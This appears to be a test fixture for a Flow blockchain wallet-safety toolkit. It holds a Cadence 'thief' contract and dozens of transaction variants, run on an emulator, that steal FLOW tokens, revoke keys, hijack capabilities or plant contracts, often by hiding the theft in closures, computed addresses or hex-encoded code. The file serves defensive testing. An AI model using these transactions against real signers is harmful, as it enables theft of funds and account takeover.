import type { FlowAddress } from '@toolkit/core/account/address'

// Transactions that steal from their signer, in ways that no pattern matches. Each was executed on the emulator
// (`e2e/thefts.emulator.spec.ts`): it runs, and the event it names proves the theft.

/** Thief's contract: it takes what it gets, and emits an event. */
export const HELPER = `import FungibleToken from 0xee82856bf20e2aa6
import FlowToken from 0x0ae53cb6e3f42a79

access(all) contract Helper {
    access(all) event Took(what: String)

    access(all) fun run(_ value: AnyStruct?) {
        if let account = value as? auth(Capabilities) &Account {
            let whole = account.capabilities.account.issue<auth(Keys, Storage) &Account>()
            self.money(whole.borrow()!.storage)
            return self.took("account")
        }
        if let account = value as? auth(Storage) &Account {
            self.money(account.storage)
            return self.took("account storage")
        }
        if let account = value as? auth(Keys) &Account {
            account.keys.revoke(keyIndex: 0)
            return self.took("keys")
        }
        if let account = value as? auth(Contracts) &Account {
            account.contracts.add(name: "Planted", code: "access(all) contract Planted {}".utf8)
            return self.took("contracts")
        }
        if let storage = value as? auth(Storage) &Account.Storage {
            self.money(storage)
            return self.took("storage")
        }
        if let keys = value as? auth(Keys) &Account.Keys {
            keys.revoke(keyIndex: 0)
            return self.took("keys")
        }
        if let capabilities = value as? auth(Capabilities) &Account.Capabilities {
            capabilities.account.issue<auth(Keys) &Account>()
            return self.took("capabilities")
        }
        if let inbox = value as? auth(Inbox) &Account.Inbox {
            return self.took("inbox")
        }
        if let capability = value as? Capability<auth(FungibleToken.Withdraw) &FlowToken.Vault> {
            self.keep(<-capability.borrow()!.withdraw(amount: 1.0))
            return self.took("capability")
        }
        if let capability = value as? Capability<auth(Keys, Storage) &Account> {
            capability.borrow()!.keys.revoke(keyIndex: 0)
            return self.took("account capability")
        }
        if let vault = value as? auth(FungibleToken.Withdraw) &{FungibleToken.Provider} {
            self.keep(<-vault.withdraw(amount: 1.0))
            return self.took("vault")
        }
        if let list = value as? [AnyStruct] {
            for item in list { self.run(item) }
        }
        if let list = value as? {String: [AnyStruct]} {
            for item in list.values { self.run(item) }
        }
        if let box = value as? Box { self.run(box.value) }
        if let get = value as? fun (): AnyStruct { self.run(get()) }
        if let issue = value as? fun (StoragePath): AnyStruct { return }
    }

    access(all) struct Box {
        access(all) let value: AnyStruct
        init(_ value: AnyStruct) { self.value = value }
    }

    access(all) fun amount(): UFix64 { return 2.0 }
    access(all) fun mine(): Address { return self.account.address }
    access(all) fun yes(): Bool { return true }

    access(all) fun take(_ loot: @AnyResource) {
        self.account.storage.save(<-loot, to: StoragePath(identifier: "loot\\(getCurrentBlock().height)x\\(revertibleRandom<UInt64>())")!)
        self.took("resource")
    }

    access(self) fun money(_ storage: auth(Storage) &Account.Storage) {
        let vault = storage.borrow<auth(FungibleToken.Withdraw) &FlowToken.Vault>(from: /storage/flowTokenVault)!
        self.keep(<-vault.withdraw(amount: 1.0))
    }

    access(self) fun keep(_ tokens: @{FungibleToken.Vault}) {
        self.account.capabilities.borrow<&{FungibleToken.Receiver}>(/public/flowTokenReceiver)!.deposit(from: <-tokens)
    }

    access(self) fun took(_ what: String) { emit Took(what: what) }
}
`

/**
 * Creates victims with the key of the signing account: each has FLOW, stored capabilities on its vault and on itself,
 * and an EVM account.
 */
export const CREATE_VICTIMS = `import FungibleToken from 0xee82856bf20e2aa6
import FlowToken from 0x0ae53cb6e3f42a79
import EVM from 0xf8d6e0586b0a20c7

transaction(count: Int) {
    prepare(service: auth(BorrowValue) &Account) {
        let flow = service.storage.borrow<auth(FungibleToken.Withdraw) &FlowToken.Vault>(from: /storage/flowTokenVault)!
        let key = service.keys.get(keyIndex: 0)!
        var made = 0
        while made < count {
            made = made + 1
            let victim = Account(payer: service)
            victim.keys.add(publicKey: key.publicKey, hashAlgorithm: key.hashAlgorithm, weight: 1000.0)
            let vault = victim.storage.borrow<auth(FungibleToken.Withdraw) &FlowToken.Vault>(from: /storage/flowTokenVault)!
            vault.deposit(from: <-flow.withdraw(amount: 20.0))
            victim.storage.save(victim.capabilities.storage.issue<auth(FungibleToken.Withdraw) &FlowToken.Vault>(/storage/flowTokenVault), to: /storage/provider)
            victim.storage.save(victim.capabilities.account.issue<auth(Keys, Storage) &Account>(), to: /storage/whole)
            let coa <- EVM.createCadenceOwnedAccount()
            coa.deposit(from: <-(vault.withdraw(amount: 3.0) as! @FlowToken.Vault))
            victim.storage.save(<-coa, to: /storage/evm)
            victim.capabilities.storage.issue<&EVM.CadenceOwnedAccount>(/storage/evm)
        }
    }
}
`

export interface Theft {
  readonly name: string
  readonly script: string
  /** Part of the event type that proves it. */
  readonly event: string
}

const TOOK = 'Helper.Took'
const SENT = 'FlowToken.TokensDeposited'

/** Returns the thefts by the account that has `Helper` and receives the loot. */
export function thefts(thief: FlowAddress): readonly Theft[] {
  const imports = `import Helper from 0x${thief}
import FungibleToken from 0xee82856bf20e2aa6
import FlowToken from 0x0ae53cb6e3f42a79
import EVM from 0xf8d6e0586b0a20c7
import FungibleTokenSwitchboard from 0xee82856bf20e2aa6
import Burner from 0xf8d6e0586b0a20c7
`
  const theft = (
    name: string,
    rights: string,
    code: string,
    event = TOOK,
    functions = '',
  ): Theft => ({
    name,
    event,
    script: `${imports}${functions}transaction {\n    prepare(signer: auth(${rights}) &Account) {\n        ${code}\n    }\n}\n`,
  })
  const ID = 'access(all) fun id(_ a: AnyStruct): AnyStruct { return a }\n'
  const vault =
    'signer.storage.borrow<auth(FungibleToken.Withdraw) &FlowToken.Vault>(from: /storage/flowTokenVault)!'
  const receiver = `getAccount(0x${thief}).capabilities.borrow<&{FungibleToken.Receiver}>(/public/flowTokenReceiver)!`
  const whole = (code: string, name: string, functions = '') =>
    theft(name, 'Capabilities', code, TOOK, functions)
  return [
    // The whole account.
    whole('Helper.run(signer)', 'an argument'),
    whole('Helper.run(id(signer))', 'through a function of the script', ID),
    whole(
      'give(signer)',
      'within a function of the script',
      'access(all) fun give(_ a: auth(Capabilities) &Account) { Helper.run(a) }\n',
    ),
    whole('Helper.run({"a": [signer as AnyStruct]})', 'in a dictionary of lists'),
    whole('let f = fun (): AnyStruct { return signer }\n        Helper.run(f)', 'in a closure'),
    whole(
      'let f = fun () { Helper.run(signer) }\n        f()',
      'in a closure that the script calls',
    ),
    whole('fun inner() { Helper.run(signer) }\n        inner()', 'in a function within prepare'),
    whole('for a in [signer] { Helper.run(a) }', 'in a loop over a list'),
    whole(
      'var i = 0\n        var a: AnyStruct = 1\n        while i < 2 { Helper.run(a)\n            a = signer\n            i = i + 1 }',
      'assigned after it is used, in a loop',
    ),
    whole(
      'var a: AnyStruct = 1\n        var b: AnyStruct = signer\n        a <-> b\n        Helper.run(a)',
      'swapped',
    ),
    whole('let a: auth(Capabilities) &Account? = signer\n        Helper.run(a)', 'as an optional'),
    whole(
      'if let a = (signer as AnyStruct) as? auth(Capabilities) &Account { Helper.run(a) }',
      'cast there and back',
    ),
    whole('Helper.run(Helper.yes() ? signer : 1 as AnyStruct)', 'in a conditional'),
    whole('let none: AnyStruct? = nil\n        Helper.run(none ?? signer)', 'after ??'),
    whole('Helper.run(Helper.Box(signer))', 'in a struct'),
    whole('let f = Helper.run\n        f(signer)', 'to a function taken as a value'),
    whole(
      'let list: [AnyStruct] = []\n        list.append(signer)\n        Helper.run(list)',
      'appended to a list',
    ),
    whole(
      'let list: [AnyStruct] = [1]\n        list[0] = signer\n        Helper.run(list)',
      'put into a list by index',
    ),
    whole(
      'var keep: AnyStruct = 1\n        let set = fun () { keep = signer }\n        set()\n        Helper.run(keep)',
      'set by a closure',
    ),
    whole('switch 1 { case 1: Helper.run(signer) }', 'in a switch'),
    {
      name: 'in a field of the transaction, used in execute',
      event: TOOK,
      script: `${imports}transaction {\n    let a: AnyStruct\n    prepare(signer: auth(Capabilities) &Account) { self.a = signer }\n    execute { Helper.run(self.a) }\n}\n`,
    },
    {
      name: 'in a post-condition’s place: execute through a local name',
      event: TOOK,
      script: `${imports}transaction {\n    let a: auth(Capabilities) &Account\n    prepare(signer: auth(Capabilities) &Account) { self.a = signer }\n    execute { let b = self.a\n        let c = b\n        Helper.run(c) }\n}\n`,
    },
    // Parts of it.
    theft('the storage', 'Storage', 'Helper.run(signer.storage)'),
    theft('the storage by a name', 'Storage', 'let s = signer.storage\n        Helper.run(s)'),
    theft('the keys', 'Keys', 'Helper.run(signer.keys)'),
    theft('the capabilities', 'Capabilities', 'Helper.run(signer.capabilities)'),
    theft('the inbox', 'Inbox', 'Helper.run(signer.inbox)'),
    theft('the account for its contracts', 'Contracts', 'Helper.run(signer)'),
    theft('the account for its keys', 'Keys', 'Helper.run(signer)'),
    theft(
      'a function of its inbox as a value',
      'Inbox, Capabilities',
      `let p = signer.inbox\n        let publish = p.publish\n        publish(signer.capabilities.storage.issue<auth(FungibleToken.Withdraw) &FlowToken.Vault>(/storage/flowTokenVault), name: "x", recipient: 0x${thief})`,
      'flow.InboxValuePublished',
    ),
    theft(
      'a key revoked by a function taken as a value',
      'Keys',
      'let r = signer.keys.revoke\n        r(keyIndex: 0)',
      'flow.AccountKeyRemoved',
    ),
    // Stored items.
    theft(
      'a copied capability',
      'CopyValue',
      'Helper.run(signer.storage.copy<Capability<auth(FungibleToken.Withdraw) &FlowToken.Vault>>(from: /storage/provider)!)',
    ),
    theft(
      'a copied capability on the account',
      'CopyValue',
      'Helper.run(signer.storage.copy<Capability<auth(Keys, Storage) &Account>>(from: /storage/whole)!)',
    ),
    theft(
      'a copied capability on the account, used here',
      'CopyValue',
      'signer.storage.copy<Capability<auth(Keys, Storage) &Account>>(from: /storage/whole)!.borrow()!.keys.revoke(keyIndex: 0)',
      'flow.AccountKeyRemoved',
    ),
    theft(
      'a copied capability, used here',
      'CopyValue',
      `let c = signer.storage.copy<Capability<auth(FungibleToken.Withdraw) &FlowToken.Vault>>(from: /storage/provider)!\n        ${receiver}.deposit(from: <-c.borrow()!.withdraw(amount: 1.0))`,
      SENT,
    ),
    theft(
      'a copied capability as AnyStruct',
      'CopyValue',
      'Helper.run(signer.storage.copy<AnyStruct>(from: /storage/provider)!)',
    ),
    theft(
      'the capability of a controller',
      'Capabilities',
      'for c in signer.capabilities.storage.getControllers(forPath: /storage/flowTokenVault) { Helper.run(c.capability) }',
    ),
    theft(
      'the capability of a controller, in a callback',
      'Capabilities',
      'signer.capabilities.storage.forEachController(forPath: /storage/flowTokenVault, fun (c: &StorageCapabilityController): Bool { Helper.run(c.capability)\n            return true })',
    ),
    theft('a reference to the vault', 'BorrowValue', `Helper.run(${vault})`),
    theft(
      'a reference to the vault under another type',
      'BorrowValue',
      'Helper.run(signer.storage.borrow<auth(FungibleToken.Withdraw) &{FungibleToken.Provider}>(from: /storage/flowTokenVault)!)',
    ),
    theft('what is withdrawn', 'BorrowValue', `Helper.take(<-${vault}.withdraw(amount: 1.0))`),
    theft(
      'what is withdrawn, in a list',
      'BorrowValue',
      `Helper.take(<-[<-${vault}.withdraw(amount: 1.0)])`,
    ),
    theft(
      'the withdrawing function as a value',
      'BorrowValue',
      `let w = ${vault}.withdraw\n        ${receiver}.deposit(from: <-w(amount: 1.0))`,
      SENT,
    ),
    theft(
      'to an address in the code',
      'BorrowValue',
      `${receiver}.deposit(from: <-${vault}.withdraw(amount: 1.0))`,
      SENT,
    ),
    theft(
      'nearly all of it, to an address in the code',
      'BorrowValue',
      `let v = ${vault}\n        ${receiver}.deposit(from: <-v.withdraw(amount: v.balance - 0.1))`,
      SENT,
    ),
    theft(
      'to an address that is put together',
      'BorrowValue',
      `let to = Address.fromString("0x".concat("${thief.slice(0, 8)}").concat("${thief.slice(8)}"))!\n        getAccount(to).capabilities.borrow<&{FungibleToken.Receiver}>(/public/flowTokenReceiver)!.deposit(from: <-${vault}.withdraw(amount: 1.0))`,
      SENT,
    ),
    theft(
      'to an address that is computed from a number',
      'BorrowValue',
      `getAccount(Address(${BigInt(`0x${thief}`) - 7n} as UInt64 + 7)).capabilities.borrow<&{FungibleToken.Receiver}>(/public/flowTokenReceiver)!.deposit(from: <-${vault}.withdraw(amount: 1.0))`,
      SENT,
    ),
    theft(
      'to an address that a stranger’s contract gives',
      'BorrowValue',
      `getAccount(Helper.mine()).capabilities.borrow<&{FungibleToken.Receiver}>(/public/flowTokenReceiver)!.deposit(from: <-${vault}.withdraw(amount: 1.0))`,
      SENT,
    ),
    theft(
      'as much as a stranger’s contract says, to an argument’s address',
      'BorrowValue',
      `let v = ${vault}\n        ${receiver}.deposit(from: <-v.withdraw(amount: Helper.amount()))`,
      SENT,
    ),
    theft(
      'loaded and handed over',
      'LoadValue',
      'Helper.take(<-signer.storage.load<@EVM.CadenceOwnedAccount>(from: /storage/evm)!)',
    ),
    theft(
      'loaded as AnyResource',
      'LoadValue',
      'let v <- signer.storage.load<@AnyResource>(from: /storage/evm)!\n        Helper.take(<-v)',
    ),
    theft(
      'withdrawn and burnt',
      'BorrowValue',
      `Burner.burn(<-${vault}.withdraw(amount: 1.0))`,
      'FlowToken.TokensWithdrawn',
    ),
    theft(
      'withdrawn and destroyed',
      'BorrowValue',
      `destroy ${vault}.withdraw(amount: 1.0)`,
      'FlowToken.TokensWithdrawn',
    ),
    // Capabilities and the EVM.
    theft(
      'the receiver turned to the thief’s vault',
      'Capabilities, SaveValue',
      `let board <- FungibleTokenSwitchboard.createSwitchboard()\n        board.addNewVault(capability: getAccount(0x${thief}).capabilities.get<&{FungibleToken.Receiver}>(/public/flowTokenReceiver))\n        signer.storage.save(<-board, to: /storage/board)\n        signer.capabilities.unpublish(/public/flowTokenReceiver)\n        signer.capabilities.publish(signer.capabilities.storage.issue<&{FungibleToken.Receiver}>(/storage/board), at: /public/flowTokenReceiver)`,
      'flow.CapabilityPublished',
    ),
    theft(
      'controllers deleted',
      'Capabilities',
      'for c in signer.capabilities.storage.getControllers(forPath: /storage/evm) { c.delete() }',
      'flow.StorageCapabilityControllerDeleted',
    ),
    theft(
      'a controller turned to something else',
      'Capabilities',
      'signer.capabilities.storage.getControllers(forPath: /storage/evm)[0].retarget(/storage/other)',
      'flow.StorageCapabilityControllerTargetChanged',
    ),
    theft(
      'the EVM account’s FLOW by a call',
      'BorrowValue',
      `let coa = signer.storage.borrow<auth(EVM.Call) &EVM.CadenceOwnedAccount>(from: /storage/evm)!\n        coa.call(to: EVM.addressFromString("${'ab'.repeat(20)}"), data: [], gasLimit: 60000, value: EVM.Balance(attoflow: 1000000000000000000))`,
      'EVM.TransactionExecuted',
    ),
    theft(
      'sent to an EVM address in the code',
      'BorrowValue',
      `EVM.addressFromString("${'cd'.repeat(20)}").deposit(from: <-(${vault}.withdraw(amount: 1.0) as! @FlowToken.Vault))`,
      'EVM.FLOWTokensDeposited',
    ),
    // Contracts.
    theft(
      'a contract whose initializer takes keys',
      'AddContract',
      'signer.contracts.add(name: "Nice", code: "access(all) contract Nice { init() { self.account.keys.revoke(keyIndex: 0) } }".utf8)',
      'flow.AccountKeyRemoved',
    ),
    theft(
      'a contract that gives its account away, in hex',
      'AddContract',
      `signer.contracts.add(name: "Nice", code: "${Buffer.from(`import Helper from 0x${thief}\naccess(all) contract Nice { init() { Helper.run(self.account) } }`).toString('hex')}".decodeHex())`,
      TOOK,
    ),
  ]
}
